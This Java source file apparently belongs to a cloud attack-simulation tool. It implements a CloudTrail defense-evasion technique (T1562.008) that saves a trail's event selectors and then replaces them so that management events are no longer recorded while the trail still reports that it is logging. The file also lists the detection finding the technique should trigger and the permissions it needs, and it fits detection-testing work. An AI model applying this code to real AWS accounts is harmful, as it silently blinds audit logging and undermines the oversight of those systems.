package io.firedrill.injector.technique.defenseevasion;

import io.firedrill.injector.aws.ApiCall;
import io.firedrill.injector.aws.AwsSession;
import io.firedrill.injector.cleanup.Change;
import io.firedrill.injector.cleanup.Ledger;
import io.firedrill.injector.cleanup.Trails;
import io.firedrill.injector.technique.Arns;
import io.firedrill.injector.technique.Grant;
import io.firedrill.injector.technique.IncidentType;
import io.firedrill.injector.technique.Parameters;
import io.firedrill.injector.technique.Technique;
import io.firedrill.injector.technique.TechniqueInfo;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import software.amazon.awssdk.services.cloudtrail.model.EventSelector;
import software.amazon.awssdk.services.cloudtrail.model.ReadWriteType;

/** Leaves a trail logging, but no longer recording management events: blind and quiet. */
public final class CloudTrailEventSelectors implements Technique<CloudTrailEventSelectors.Params> {

  /**
   * @param trail the trail's name or ARN
   */
  public record Params(String trail) {}

  private static final TechniqueInfo INFO =
      new TechniqueInfo(
          "aws.defense-evasion.cloudtrail-event-selectors",
          "Stop a trail recording management events",
          "Reads the trail's selectors (cloudtrail:GetEventSelectors), then calls"
              + " cloudtrail:PutEventSelectors with one selector that records read-only data"
              + " events and no management events. The trail still says it is logging.",
          List.of("T1562.008"),
          IncidentType.COMPLIANCE_VARIANCE,
          List.of("GetEventSelectors", "PutEventSelectors"),
          List.of("Stealth:IAMUser/CloudTrailLoggingDisabled"),
          List.of("cloudtrail:GetEventSelectors", "cloudtrail:PutEventSelectors"));

  @Override
  public TechniqueInfo info() {
    return INFO;
  }

  @Override
  public Params parameters(Map<String, String> with) {
    Parameters.allowOnly(with, Set.of("trail"));
    return new Params(Parameters.required(with, "trail", "the name or ARN of the trail to blind"));
  }

  @Override
  public List<Grant> grants(Params p, Arns arns) {
    return Grant.on(
        arns.trail(p.trail()), "cloudtrail:GetEventSelectors", "cloudtrail:PutEventSelectors");
  }

  @Override
  public List<ApiCall> detonate(AwsSession session, Params p, Ledger ledger) {
    List<ApiCall> calls = new ArrayList<>();
    List<EventSelector> before = new ArrayList<>();
    calls.add(
        session.call(
            "cloudtrail",
            "GetEventSelectors",
            () -> {
              var read = session.cloudTrail().getEventSelectors(r -> r.trailName(p.trail()));
              before.addAll(read.eventSelectors());
              return read;
            }));
    if (!"allowed".equals(calls.get(0).outcome())) {
      // Selectors that cannot be read cannot be put back: the trail is left alone.
      return calls;
    }
    ledger.willMake(
        Change.of(Change.TRAIL_SELECTORS, p.trail(), "selectors", Trails.selectorsJson(before)));
    EventSelector blind =
        EventSelector.builder()
            .readWriteType(ReadWriteType.READ_ONLY)
            .includeManagementEvents(false)
            .build();
    calls.add(
        session.call(
            "cloudtrail",
            "PutEventSelectors",
            () ->
                session
                    .cloudTrail()
                    .putEventSelectors(r -> r.trailName(p.trail()).eventSelectors(blind))));
    return calls;
  }
}
